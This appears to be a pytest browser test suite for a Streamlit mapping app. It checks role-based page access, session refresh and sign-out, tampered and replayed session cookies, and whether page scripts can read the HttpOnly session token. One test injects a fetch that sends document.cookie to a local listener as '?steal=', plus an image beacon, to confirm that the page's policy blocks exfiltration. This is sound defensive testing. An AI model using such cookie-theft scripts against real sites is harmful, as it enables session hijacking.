"""Who gets in where, in Chromium: protected pages by role, a sign-in that survives a refresh,
sign-out, and a tampered or replayed session cookie."""

import shutil

import pytest

from .conftest import add_user, map_ready, sign_in, start_app, stop_app, wait_for_app, wait_idle

pytestmark = pytest.mark.browser
DROPZONE = '[data-testid="stFileUploaderDropzoneInput"]'


@pytest.fixture(scope="module")
def app(_demo_sqlite_url, geo_dir, tmp_path_factory):
    path = tmp_path_factory.mktemp("access") / "atlas.db"
    shutil.copy(_demo_sqlite_url.removeprefix("sqlite:///"), path)
    url = f"sqlite:///{path}"
    for name, role in (("pemirsa", "viewer"), ("operator", "data_staff"), ("kepala", "admin")):
        add_user(url, name, role)
    base, proc = start_app(url, geo_dir, path.with_suffix(".log"))
    yield base
    stop_app(proc)


@pytest.fixture(scope="module")
def closed_app(_demo_sqlite_url, geo_dir, tmp_path_factory):
    path = tmp_path_factory.mktemp("closed") / "atlas.db"
    shutil.copy(_demo_sqlite_url.removeprefix("sqlite:///"), path)
    add_user(f"sqlite:///{path}", "pemirsa", "viewer")
    base, proc = start_app(
        f"sqlite:///{path}", geo_dir, path.with_suffix(".log"), ATLAS_PUBLIC_ACCESS="no"
    )
    yield base
    stop_app(proc)


def visit(page, url):
    page.goto(url)
    wait_idle(page)
    return page.inner_text("body")


def test_protected_pages_by_role(app, offline):
    page = offline.page()
    for path in ("/upload", "/history", "/admin"):
        body = visit(page, app + path)
        assert "Silakan masuk" in body and page.locator(DROPZONE).count() == 0
        assert "Tambah akun" not in body and "Batalkan" not in body
    assert "Masuk" in visit(page, app + "/")  # the demo map is public (ATLAS_PUBLIC_ACCESS=auto)
    assert page.locator('[data-testid="stMetric"]').count() > 0

    sign_in(page, app, "pemirsa")
    for path in ("/upload", "/history", "/admin"):
        body = visit(page, app + path)
        assert "tidak untuk peran Anda" in body and page.locator(DROPZONE).count() == 0

    other = offline.context.browser.new_context()
    staff = other.new_page()
    sign_in(staff, app, "operator")
    visit(staff, app + "/upload")
    assert staff.locator(DROPZONE).count() == 1
    assert "tidak untuk peran Anda" in visit(staff, app + "/admin")
    other.close()

    admin_ctx = offline.context.browser.new_context()
    admin = admin_ctx.new_page()
    sign_in(admin, app, "kepala")
    body = visit(admin, app + "/admin")
    cells = admin.locator(
        '[data-testid="stDataFrame"] [role="gridcell"], [data-testid="stDataFrame"] td, '
        "table.atlas-table td"
    )
    assert "Tambah akun" in body and "operator" in cells.all_inner_texts()
    admin.get_by_role("tab", name="Log audit").click()
    admin.wait_for_timeout(800)
    logged = cells.all_inner_texts()
    assert "masuk" in logged and {"pemirsa", "operator", "kepala"} <= set(logged)
    admin_ctx.close()
    assert offline.blocked == []


def test_session_survives_refresh_and_ends_at_sign_out(app, offline):
    page = offline.page()
    sign_in(page, app, "operator")
    page.reload()
    wait_idle(page)
    assert "Masuk sebagai" in page.inner_text("body")
    visit(page, app + "/upload")
    assert page.locator(DROPZONE).count() == 1
    cookie = next(c for c in offline.context.cookies() if c["name"] == "atlas_session")
    assert cookie["sameSite"] == "Strict"

    # A tampered token is nobody.
    forged = offline.context.browser.new_context()
    forged.add_cookies(
        [
            cookie
            | {
                "value": cookie["value"][:-2]
                + ("AA" if not cookie["value"].endswith("AA") else "BB")
            }
        ]
    )
    p2 = forged.new_page()
    assert "Silakan masuk" in visit(p2, app + "/upload") and p2.locator(DROPZONE).count() == 0

    # The real token works in another browser until its owner signs out; then it is dead.
    copied = offline.context.browser.new_context()
    copied.add_cookies([cookie])
    p3 = copied.new_page()
    visit(p3, app + "/upload")
    assert p3.locator(DROPZONE).count() == 1
    page.get_by_role("button", name="Keluar").click()
    wait_idle(page)
    assert "Masuk sebagai" not in page.inner_text("body")
    assert "Silakan masuk" in visit(p3, app + "/upload") and p3.locator(DROPZONE).count() == 0
    forged.close()
    copied.close()


def test_aggregate_pages_closed_when_public_access_is_off(closed_app, offline):
    page = offline.page()
    for path in ("/", "/briefing"):
        body = visit(page, closed_app + path)
        assert "Silakan masuk" in body
        assert page.locator('[data-testid="stMetric"]').count() == 0
        assert page.locator('iframe[title="streamlit_folium.st_folium"]').count() == 0
    sign_in(page, closed_app, "pemirsa")
    page.goto(closed_app + "/?gelombang=IX")
    wait_for_app(page)
    assert page.locator('[data-testid="stMetric"]').count() > 0


def test_no_script_can_read_the_session_token(app, offline):
    """Defence in depth behind the escaping: even a script running in the page or in the map's
    frame finds no session token, and cannot send anything to another server."""
    import socket
    import threading

    page = offline.page()
    sign_in(page, app, "kepala")
    page.goto(app + "/")
    wait_for_app(page)
    frame = map_ready(page)
    cookie = next(c for c in offline.context.cookies() if c["name"] == "atlas_session")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    for doc in (page, frame):
        assert "atlas_session" not in doc.evaluate("() => document.cookie")
        assert cookie["value"] not in doc.evaluate("() => document.documentElement.outerHTML")

    # What an injected script would do next: send data elsewhere. The policy stops it.
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    seen: list[bytes] = []

    def accept():
        listener.settimeout(5)
        try:
            conn, _ = listener.accept()
            seen.append(conn.recv(100))
            conn.close()
        except OSError:
            pass

    thread = threading.Thread(target=accept)
    thread.start()
    result = frame.evaluate(
        """(port) => fetch('http://127.0.0.1:' + port + '/?steal=' + document.cookie)
               .then(() => 'sent', e => 'blocked: ' + e)""",
        port,
    )
    frame.evaluate("(port) => { new Image().src = 'http://127.0.0.1:' + port + '/img'; }", port)
    thread.join()
    listener.close()
    assert result.startswith("blocked") and seen == []
    page.reload()
    wait_idle(page)
    assert "Masuk sebagai" in page.inner_text("body")  # the HttpOnly cookie still signs in
